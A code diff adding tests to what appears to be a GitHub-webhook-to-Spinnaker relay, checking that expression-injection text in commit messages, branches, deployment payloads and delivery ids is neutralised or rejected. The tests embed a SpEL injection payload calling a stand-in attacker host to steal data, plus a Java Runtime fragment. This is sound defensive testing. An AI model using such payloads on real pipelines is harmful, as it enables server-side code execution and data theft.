@@ -456,3 +456,65 @@ describe('draining stored deliveries', () => {
     expect(Number(pending.n)).toBe(backlog);
   });
 });
+
+describe('text GitHub users write', () => {
+  const attack = "${#jsonFromUrl('http://attacker.example/steal')}";
+
+  it('reaches Gate with no expression in it, and the pipelines still start with the facts they read', async () => {
+    const run = workflowRun();
+    const workflow = run.workflow_run as Record<string, unknown>;
+    workflow.display_title = `Deploy ${attack}`;
+    workflow.head_branch = `feature/${attack}`;
+    (workflow.head_commit as Record<string, unknown>).message = `fix: ${attack}`;
+    const created = deployment();
+    const details = created.deployment as Record<string, unknown>;
+    details.description = attack;
+    details.payload = { [attack]: attack, nested: [{ note: `#{T(java.lang.Runtime)} ${attack}` }] };
+    await deliver('workflow_run', run, { id: 'attack-run' }).expect(202);
+    await deliver('deployment', created, { id: 'attack-deployment' }).expect(202);
+    await worker.drain();
+
+    expect(startedIds()).toEqual(['deploy-prod', 'on-test-by-name']);
+    for (const start of gate.starts) expect(JSON.stringify(start.trigger)).not.toContain('${');
+    const byName = gate.starts.find((s) => s.pipelineNameOrId === 'on-test-by-name');
+    expect(byName?.trigger).toMatchObject({
+      repository: 'octo-org/octo-repo',
+      sha: '3484a3fb816e0859fd6e1cea078d76385ff50625',
+      workflowRunId: 289782451,
+      branch: "feature/$ {#jsonFromUrl('http://attacker.example/steal')}",
+      payload: {
+        workflow_run: { head_commit: { message: "fix: $ {#jsonFromUrl('http://attacker.example/steal')}" } },
+      },
+    });
+    const prod = gate.starts.find((s) => s.pipelineNameOrId === 'deploy-prod');
+    expect(prod?.trigger).toMatchObject({ environment: 'production', deploymentId: 145988746, ref: 'master' });
+    expect((prod?.trigger.payload as { deployment: { payload: unknown } }).deployment.payload).toEqual({
+      "$ {#jsonFromUrl('http://attacker.example/steal')}": "$ {#jsonFromUrl('http://attacker.example/steal')}",
+      nested: [{ note: "#{T(java.lang.Runtime)} $ {#jsonFromUrl('http://attacker.example/steal')}" }],
+    });
+  });
+
+  it("keeps the pipeline author's own trigger fields as written", async () => {
+    gate.pipelines = [
+      pipeline('authored', [
+        trigger({
+          type: 'githubWorkflowRun',
+          repository: 'octo-org/octo-repo',
+          workflow: 'test.yml',
+          notes: '${parameters.region}',
+        }),
+      ]),
+    ];
+    await deliver('workflow_run', workflowRun()).expect(202);
+    await worker.drain();
+
+    expect(gate.starts[0]?.trigger.notes).toBe('${parameters.region}');
+  });
+
+  it('refuses a delivery id that is not an id, since it reaches Orca as trigger.eventId', async () => {
+    const res = await deliver('workflow_run', workflowRun(), { id: attack }).expect(400);
+
+    expect(res.body.error.message).toMatch(/X-GitHub-Delivery|x-github-delivery/i);
+    expect(await deliveriesStored()).toBe(0);
+  });
+});
